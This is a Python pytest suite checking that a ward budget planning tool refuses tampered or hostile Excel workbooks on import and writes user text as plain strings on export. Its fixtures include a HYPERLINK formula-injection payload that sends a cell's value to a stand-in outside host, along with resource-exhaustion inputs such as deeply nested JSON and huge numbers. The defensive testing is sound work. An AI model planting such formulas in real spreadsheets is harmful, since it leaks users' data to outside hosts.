"""Hostile ward workbooks (issue 8 security and item 6, issue 10): tampered identity, formula
injection, rows under 合計, cells far away, numbers beyond SQLite's, nested JSON, FIFOs. Each
is refused with the cell named, exit 2 on the CLI, and the plan file byte for byte unchanged."""

from __future__ import annotations

import os
import re
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from test_ward_excel import CHUO_PROJECTS, build, digest, edit

from db.store import open_plan
from desktop.cli import main
from desktop.publish.ward_excel import FIRST_ROW, META_SHEET, read_ward_workbook


@pytest.fixture
def plan_file(tmp_path) -> Path:
    path = tmp_path / "plan.sqlite"
    with open_plan(path, create=True) as store:
        build(store)
    return path


@pytest.fixture
def signed(plan_file, tmp_path) -> Path:
    """Exported through the CLI, as a user does: the first export makes the plan's key."""
    out = tmp_path / "chuo.xlsx"
    assert main(["ward-xlsx", "export", "--db", str(plan_file), "--year", "2022", "--ward",
                 "中央区", "-o", str(out)]) == 0
    return out


def cli_refuses(capsys, plan_file: Path, workbook: Path, *expected: str, argv=()) -> str:
    capsys.readouterr()
    before = digest(plan_file)
    code = main(["ward-xlsx", "import", "--db", str(plan_file), str(workbook), *argv])
    err = capsys.readouterr().err
    assert code == 2, err
    assert "Traceback" not in err
    for text in expected:
        assert text in err, err
    assert digest(plan_file) == before
    return err


def total_row(workbook: Path) -> int:
    ws = load_workbook(workbook)["中央区"]
    return next(r for r in range(FIRST_ROW, ws.max_row + 1) if ws.cell(r, 2).value == "合計")


# -- tamper-evident identity -----------------------------------------------------------------

def test_an_untouched_signed_workbook_imports(plan_file, signed, capsys):
    with open_plan(plan_file, readonly=True) as store:
        assert len(store.plan().workbook_key) == 64
    assert main(["ward-xlsx", "import", "--db", str(plan_file), str(signed)]) == 0
    assert "変更なし" in capsys.readouterr().out


def test_the_ward_in_the_hidden_sheet_is_tamper_evident(plan_file, signed, capsys):
    wb = load_workbook(signed)
    meta = wb[META_SHEET]
    row = next(r for r in range(1, 20) if meta.cell(r, 1).value == "ward")
    meta.cell(row, 2).value = "東区"
    wb["中央区"].title = "東区"
    meta.cell(row + 2, 2).value = "東区"
    for r in range(FIRST_ROW, FIRST_ROW + len(CHUO_PROJECTS)):
        wb["東区"].cell(r, 11).value = "東区"
    wb.save(signed)
    err = cli_refuses(capsys, plan_file, signed, "altered outside PlanBook's editable cells",
                      "PlanBook!B4:B6: the ward, fiscal year or sheet")
    assert f"東区!J{FIRST_ROW}: the hidden identity of this row" in err


def test_a_changed_row_id_and_cleared_signatures_are_named(plan_file, signed, capsys):
    with open_plan(plan_file, readonly=True) as store:
        other_id = store.load(2022).ward_plan("東区").projects[0].id
    edit(signed, {f"J{FIRST_ROW}": other_id})
    cli_refuses(capsys, plan_file, signed, f"中央区!J{FIRST_ROW}: the hidden identity of this row")
    edit(signed, {f"J{FIRST_ROW}": 1, f"M{FIRST_ROW + 1}": '[2, "x", "", 1, 1, 1, null, null]'})
    cli_refuses(capsys, plan_file, signed,
                f"中央区!M{FIRST_ROW + 1}: the hidden export values of this row were changed")
    wb = load_workbook(signed)
    meta = wb[META_SHEET]
    row = next(r for r in range(1, 20) if meta.cell(r, 1).value == "signature")
    meta.cell(row, 2).value = None
    wb.save(signed)
    cli_refuses(capsys, plan_file, signed, "the workbook is not signed")


def test_clearing_every_identity_needs_confirmation_and_names_the_ward(plan_file, signed, capsys):
    wb = load_workbook(signed)
    ws = wb["中央区"]
    for row in range(FIRST_ROW, FIRST_ROW + len(CHUO_PROJECTS)):
        for column in range(10, 15):
            ws.cell(row, column).value = None
    wb.save(signed)
    err = cli_refuses(capsys, plan_file, signed, "deletes 5 projects of 中央区 令和4年度", "--yes")
    assert "Traceback" not in err
    out = capsys.readouterr().out
    assert main(["ward-xlsx", "import", "--db", str(plan_file), str(signed), "--yes"]) == 0
    out = capsys.readouterr().out
    assert "令和4年度 中央区: 追加 5件、変更 0件、削除 5件" in out


# -- formula injection -----------------------------------------------------------------------

def test_user_text_is_written_as_text_never_as_a_formula(plan_file, tmp_path):
    evil = '=HYPERLINK("http://example.invalid/"&D5,"詳細はこちら")'
    with open_plan(plan_file) as store:
        plan = store.load(2022).ward_plan("中央区")
        store.update_fields("ward_project", plan.projects[0].id,
                            {"name": evil, "description": "+1+2", "status": None})
        store.update_fields("ward_group", plan.groups[0].id, {"title": "@SUM(A1)"})
        doc = store.load(2022)
    from desktop.publish.ward_excel import export_ward_workbook

    out = export_ward_workbook(doc, "中央区", tmp_path / "evil.xlsx")
    ws = load_workbook(out)["中央区"]
    for column in (2, 3, 7):
        assert ws.cell(FIRST_ROW, column).data_type == "s"
    assert ws.cell(FIRST_ROW, 2).value == evil
    with zipfile.ZipFile(out) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>HYPERLINK" not in sheet and '<t>=HYPERLINK(' in sheet  # stored as a string
    assert "<f>SUM(D4" in sheet  # the totals stay live formulas
    assert read_ward_workbook(out).rows[0].name == evil


def test_a_formula_typed_into_a_text_cell_is_refused(plan_file, signed, capsys):
    wb = load_workbook(signed)
    wb["中央区"][f"B{FIRST_ROW}"] = '=HYPERLINK("http://x","y")'
    wb.save(signed)
    cli_refuses(capsys, plan_file, signed, f"中央区!B{FIRST_ROW}: holds a formula")


# -- rows under 合計 (issue 10) -----------------------------------------------------------------

@pytest.mark.parametrize("offset, column", [(1, "A"), (2, "E"), (3, "B"), (1, "B"), (6, "D")])
def test_rows_typed_under_the_total_are_refused_naming_the_cells(plan_file, signed, capsys,
                                                                 offset, column):
    row = total_row(signed) + offset
    edit(signed, {f"{column}{row}": 7 if column in "ADE" else "合計の下の新しい事業"})
    cli_refuses(capsys, plan_file, signed, f"中央区!{column}{row}: below the total row (合計)")


def test_the_labels_under_the_total_are_not_projects(plan_file, signed, capsys):
    row = total_row(signed) + 1
    edit(signed, {f"D{row}": 20000})  # the allocation may be retyped; it is not imported
    assert main(["ward-xlsx", "import", "--db", str(plan_file), str(signed)]) == 0


# -- cells and numbers no ward sheet has ---------------------------------------------------------

def replace_in_sheet(workbook: Path, pattern: str, replacement: str) -> None:
    """Edit the sheet's XML directly (what openpyxl itself refuses to write)."""
    with zipfile.ZipFile(workbook) as archive:
        members = {i.filename: archive.read(i.filename) for i in archive.infolist()}
    xml = members["xl/worksheets/sheet1.xml"].decode()
    xml, count = re.subn(pattern, replacement, xml, count=1)
    assert count == 1
    members["xl/worksheets/sheet1.xml"] = xml.encode()
    with zipfile.ZipFile(workbook, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def test_one_cell_at_the_last_row_is_cheap_and_named(plan_file, signed, capsys):
    wb = load_workbook(signed)
    wb["中央区"]["B1048576"] = "ここ"
    wb.save(signed)
    started = time.perf_counter()
    cli_refuses(capsys, plan_file, signed, "中央区!B1048576: far below the projects")
    assert time.perf_counter() - started < 10


@pytest.mark.parametrize("digits", ["9223372036854775808", "9" * 5000, "1E+400"])
def test_huge_numbers_in_amount_cells(plan_file, signed, capsys, digits):
    replace_in_sheet(signed, r'(<c r="D4"[^>]*>)<v>[^<]*</v>', rf"\g<1><v>{digits}</v>")
    err = cli_refuses(capsys, plan_file, signed)
    assert "中央区!D4" in err or "cannot be read" in err


def test_a_huge_project_number(plan_file, signed, capsys):
    edit(signed, {f"A{FIRST_ROW}": 2**63})
    cli_refuses(capsys, plan_file, signed, f"中央区!A{FIRST_ROW}: 「9223372036854775808」 is not "
                                           "a project number")


@pytest.mark.parametrize("base", ["[" * 100_000 + "]" * 100_000, '[[[[1]]]]', '{"a": 1}',
                                  "[" + "1," * 7 + "99999999999999999999999]"])
def test_nested_json_in_the_hidden_column(plan_file, tmp_path, capsys, base):
    with open_plan(plan_file, readonly=True) as store:  # unsigned: the content check itself
        from desktop.publish.ward_excel import export_ward_workbook
        out = export_ward_workbook(store.load(2022), "中央区", tmp_path / "u.xlsx")
    edit(out, {f"M{FIRST_ROW}": base[:32000]})
    cli_refuses(capsys, plan_file, out, f"中央区!M{FIRST_ROW}: the hidden export values were "
                                        "changed")


def test_a_too_long_name(plan_file, signed, capsys):
    edit(signed, {f"B{FIRST_ROW}": "長" * 30_000})
    cli_refuses(capsys, plan_file, signed, f"中央区!B{FIRST_ROW}: too long: 30,000 characters")


def test_a_fifo_and_an_oversized_workbook(plan_file, tmp_path, capsys, monkeypatch):
    fifo = tmp_path / "pipe.xlsx"
    os.mkfifo(fifo)
    cli_refuses(capsys, plan_file, fifo, "not a regular file")
    import desktop.publish.ward_excel.cells as cells

    monkeypatch.setattr(cells, "MAX_WORKBOOK_BYTES", 100)
    big = tmp_path / "big.xlsx"
    big.write_bytes(b"x" * 1000)
    cli_refuses(capsys, plan_file, big, "is too large")


@pytest.mark.parametrize("year", [11, 1388, 3000])
def test_a_year_before_heisei_in_a_row_or_the_hidden_sheet(plan_file, signed, capsys, year):
    """Found by make fuzz: era labels exist from 1989 on; an odd year is quoted, not a crash."""
    edit(signed, {f"L{FIRST_ROW + 1}": year})
    cli_refuses(capsys, plan_file, signed, f"中央区!K{FIRST_ROW + 1}: this row belongs to 中央区 "
                                           f"{year}")
    wb = load_workbook(signed)
    meta = wb[META_SHEET]
    row = next(r for r in range(1, 20) if meta.cell(r, 1).value == "fiscal_year")
    meta.cell(row, 2).value = year
    wb.save(signed)
    cli_refuses(capsys, plan_file, signed, "fiscal year is unreadable")
